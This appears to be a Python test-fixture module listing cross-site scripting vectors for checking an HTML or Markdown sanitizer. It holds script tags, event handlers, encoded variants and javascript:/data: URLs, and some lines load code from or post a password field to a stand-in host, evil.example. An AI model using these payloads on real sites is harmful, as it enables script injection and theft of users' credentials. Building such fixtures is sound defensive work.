"""Texts that try to make a reader's browser run something."""

# ruff: noqa: E501 - the lines and letters are what is tried

from __future__ import annotations

from itertools import product

#: Markup and other texts that try it.
TAGS = [
    "<script>hit()</script>", "<SCRIPT src=//evil.example/x.js></SCRIPT>", "<script/x>hit()</script>", "<scr<script>ipt>hit()</script>",
    "<script\n>hit()</script\n>", "</textarea><script>hit()</script>", "</title><script>hit()</script>", "--><script>hit()</script>",
    "]]><script>hit()</script>", '"><script>hit()</script>', "'><script>hit()</script>", "{{ hit() }}", "${hit()}", "<%= hit() %>",
    "<img src=x onerror=hit()>", "<img src=x OnErRoR=hit()>", "<img/src/onerror=hit()>", "<img src=x\tonerror=hit()>",
    "<img src='x' onerror\n=\nhit()>", '" onmouseover="hit()" x="', "' onfocus='hit()' autofocus='", "` onclick=hit() `",
    "<svg onload=hit()>", "<svg><script>hit()</script></svg>", "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:hit()'><text y=20>x</text></a></svg>", "<svg><set attributeName=href to=javascript:hit()>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=hit()>#x'>", "<svg><foreignObject><iframe srcdoc='<script>hit()</script>'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=hit()>", "<math href='javascript:hit()'>x</math>",
    "<math><annotation-xml encoding='text/html'><script>hit()</script></annotation-xml></math>",
    "<iframe src=javascript:hit()></iframe>", "<iframe srcdoc='<script>hit()</script>'></iframe>", "<object data=javascript:hit()>",
    "<embed src=//evil.example/x.swf>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>", "<style>*{background:url(//evil.example/)}</style>",
    "<p style='background:url(//evil.example/x)'>x</p>", "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:hit()>x</button>", "<input autofocus onfocus=hit()>", "<details open ontoggle=hit()>", "<video><source onerror=hit()>",
    "<audio src=x onerror=hit()>", "<body onload=hit()>", "<marquee onstart=hit()>", "<select autofocus onfocus=hit()>", "<keygen autofocus onfocus=hit()>",
    "<isindex type=image src=1 onerror=hit()>", "<table background=javascript:hit()>", "<a href=x id=location name=cookie>x</a>",
    "<template><script>hit()</script></template>", "<portal src=//evil.example>", "<div contenteditable onblur=hit()>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>", "<xmp><p title='</xmp><img src=x onerror=hit()>'>",
    "<textarea><img title='</textarea><img src=x onerror=hit()>'>", "<!--><img src=x onerror=hit()>-->", "<!--[if IE]><script>hit()</script><![endif]-->",
    "<p id='</p><img src=x onerror=hit()>'>x</p>", "<listing>&lt;img src=x onerror=hit()&gt;</listing>", "<a title='&quot;><img src=x onerror=hit()>'>x</a>",
    "&lt;script&gt;hit()&lt;/script&gt;", "&amp;lt;script&amp;gt;hit()", "&#60;script&#62;hit()&#60;/script&#62;",
    "\uff1cscript\uff1ehit()\uff1c/script\uff1e", "\u02c2script\u02c3hit()", "<scr\u0131pt>hit()</scr\u0131pt>", "<\u017fcript>hit()</\u017fcript>",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-", "```html onload=hit()\n<script>hit()</script>\n```", "`<script>hit()</script>`",
    "> <img src=x onerror=hit()>", "- <svg/onload=hit()>", "# <img src=x onerror=hit()>",
]  # fmt: skip

_ADDRESSES = [
    "javascript:hit()", "JaVaScRiPt:hit()", "java\tscript:hit()", "java&#10;script:hit()", "&#106;avascript:hit()", "&#x6A;avascript&colon;hit()",
    "javascript&#58;hit()", "\x01javascript:hit()", " javascript:hit()", "javascript://x%0ahit()", "vbscript:hit()",
    "data:text/html,<script>hit()</script>", "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=hit()>",
    "file:///etc/passwd", "blob:https://x/y", "view-source:javascript:hit()", "feed:javascript:hit()", "intent://x#Intent;end", "https://x\" onclick=hit() \"",
]  # fmt: skip

_LINKS = ["[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x][y]\n\n[y]: {}", '<a href="{}">x</a>', '[x](/ "{}")']

#: Every vector.
VECTORS = [*TAGS, *_ADDRESSES, *(link.format(address) for link, address in product(_LINKS, _ADDRESSES))]
